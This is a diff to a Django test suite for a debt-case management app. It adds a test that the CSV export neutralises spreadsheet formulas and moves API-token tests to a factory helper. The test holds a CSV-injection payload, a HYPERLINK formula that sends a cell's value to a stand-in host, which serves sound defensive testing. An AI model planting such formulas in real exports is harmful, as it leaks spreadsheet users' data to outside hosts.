@@ -126,6 +126,24 @@ class TestListe:
         assert lignes[1][5] == "Commandement de payer"
         assert lignes[1][10].replace("\u202f", " ") == "1 234,50 €"
 
+    def test_export_csv_neutralise_les_formules(self, monde, agent):
+        """A value typed by a partner never runs as a formula in the secretariat's spreadsheet
+        (OWASP CSV injection): text starting with = + - @ tab or CR gets a leading quote."""
+        menage = menage_avec_procedure(
+            monde.departement,
+            nom='=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")',
+            adresse="+33 rue du Calcul",
+            dettes=[(IL_Y_A(10), Decimal("1234.5"))],
+        )
+        menage.membres.update(prenom="@SOMME(1+1)")
+        reponse = agent.get(reverse("dossiers:export_csv"))
+        texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
+        (_entetes, ligne) = list(csv.reader(io.StringIO(texte), delimiter=";"))
+        assert ligne[1] == '\'=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")'
+        assert ligne[2] == "'@SOMME(1+1)"
+        assert ligne[3] == "'+33 rue du Calcul"
+        assert ligne[10].replace("\u202f", " ") == "1 234,50 €"  # untouched
+
     def test_autre_departement_invisible(self, monde):
         menage_avec_procedure(monde.departement)
         page = client_de(monde.secretariat_autre_departement).get(reverse("dossiers:liste"))
@@ -317,18 +335,16 @@ class TestApi:
         assert [d["numero"] for d in reponse.json()["results"]] == [cql.numero]
 
     def test_jeton(self, monde, client):
-        from rest_framework.authtoken.models import Token
+        from tests.partenaires.factories import cle_api_de
 
         menage_avec_procedure(monde.departement, actes=[(TypeActe.CDP, IL_Y_A(5))])
-        jeton = Token.objects.create(user=monde.secretariat)
-        reponse = client.get("/api/v1/procedures/", headers={"Authorization": f"Token {jeton.key}"})
+        jeton = cle_api_de(monde.secretariat)
+        reponse = client.get("/api/v1/procedures/", headers={"Authorization": f"Token {jeton}"})
         (procedure,) = reponse.json()["results"]
         assert procedure["stade"] == "cdp" and procedure["actes"][0]["type"] == "cdp"
-        autre = Token.objects.create(user=monde.partenaire)
+        autre = cle_api_de(monde.partenaire)
         assert (
-            client.get(
-                "/api/v1/dossiers/", headers={"Authorization": f"Token {autre.key}"}
-            ).status_code
+            client.get("/api/v1/dossiers/", headers={"Authorization": f"Token {autre}"}).status_code
             == 403
         )
 
